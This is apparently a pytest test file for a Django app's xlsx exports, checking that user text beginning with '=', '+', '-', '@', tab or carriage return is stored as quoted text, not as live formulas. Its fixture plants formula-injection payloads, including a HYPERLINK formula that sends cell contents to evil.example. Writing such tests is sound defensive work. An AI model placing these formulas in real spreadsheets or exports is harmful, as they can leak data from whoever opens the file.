"""No export writes user text as a formula (OWASP: CSV/formula injection).

A report titled ``=HYPERLINK("http://…?"&A2,"点击查看")`` must reach the chief's workbook as the
text it is, never as a live formula, and stay text when someone edits the cell. Every kind of the
export registry is generated here (a new kind is covered without anyone adding it), from a world
whose every piece of text a user or an administrator types — case titles, the reporter's name,
the names of the station, grid, categories and departments, the exporter's display name — begins
with a character a spreadsheet reads as a formula: ``=``, ``+``, ``-``, ``@``, tab, carriage
return. Numbers stay numbers.
"""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from exports.registry import EXPORTS, Table
from exports.xlsx import write_table
from tests.personas import report_ac_dispute, walk_to
from tests.test_pages import client_of

pytestmark = [pytest.mark.needs("postgresql"), pytest.mark.django_db]

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
# What a spreadsheet would run, one per character OWASP names.
FORMULAS = [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def cells(content: bytes):
    """Every cell of every sheet of a workbook, as openpyxl reads it back (not read-only: the
    cell's style, where Excel's quote prefix lives, is read too)."""
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


# Read back, a carriage return is a line feed (XML normalises line ends).
FORMULAS_FIRST = (*{formula[0] for formula in FORMULAS}, "\n")


def formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULAS_FIRST)


def assert_no_formula(content: bytes) -> list[str]:
    """No cell is a formula; each text that starts like one is stored as text with Excel's quote
    prefix (so editing the cell keeps it text). Returns the formula-like texts found."""
    found = []
    for sheet, cell in cells(content):
        assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
        if formula_like(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, (sheet, cell.coordinate, cell.value)
            found.append(cell.value)
    return found


def test_the_writer_keeps_user_text_as_text_and_numbers_as_numbers():
    table = Table(
        title="=1+1",
        columns=["=标题", "数量"],
        rows=[[formula, -index] for index, formula in enumerate(FORMULAS, start=1)] + [["-", 0.5]],
        count=len(FORMULAS) + 1,
        described=["=1+1"],
    )
    out = io.BytesIO()
    write_table(table, out, about=[("导出人", "=1+1 (mallory)")])

    book = load_workbook(io.BytesIO(out.getvalue()))
    data = book.worksheets[0]
    shown = [formula.replace("\r", "\n") for formula in FORMULAS]
    assert [cell.value for cell in data["A"]][1:] == [*shown, "-"]  # the text shown is the text typed
    assert [(cell.value, cell.data_type) for cell in data["B"]][1:] == [
        *[(-index, "n") for index in range(1, len(FORMULAS) + 1)],
        (0.5, "n"),
    ]
    assert len(assert_no_formula(out.getvalue())) == len(FORMULAS) + 4  # the data, heading and 说明 cells


@pytest.fixture
def hostile_world(world):
    """The personas' station, its text as an attacker (or a careless administrator) would type it."""
    w = world
    w.station.name = HYPERLINK
    w.station.save()
    w.grid.name = "\t=1+1"
    w.grid.save()
    for category, formula in [(w.neighbour, "=1+1"), (w.labour, "+1+1"), (w.consumer, "-1+1")]:
        category.name = formula
        category.save()
    for index, department in enumerate(vars(w.dept).values()):
        department.name = f"{FORMULAS[index % len(FORMULAS)]}{index}"
        department.save()
    for person in (w.zhang, w.lingdao):
        person.display_name = "@SUM(1+1)"
        person.save()
    walk_to(w, "in_progress")  # dispatched: the departments' rows of the dashboard
    for formula in FORMULAS:
        report_ac_dispute(w, title=formula or "x", reporter_name=formula.strip() or "x", reporter_phone="13912345678")
    return w


@pytest.mark.parametrize("kind", sorted(EXPORTS))
@pytest.mark.parametrize("who", ["zhang", "lingdao"])
def test_no_export_kind_writes_a_formula(hostile_world, kind, who):
    response = client_of(getattr(hostile_world, who)).post(f"/exports/{kind}/")
    assert response.status_code == 200, response.content[:500]
    found = assert_no_formula(b"".join(response.streaming_content))
    assert found, "the hostile text never reached the workbook: the test proves nothing"
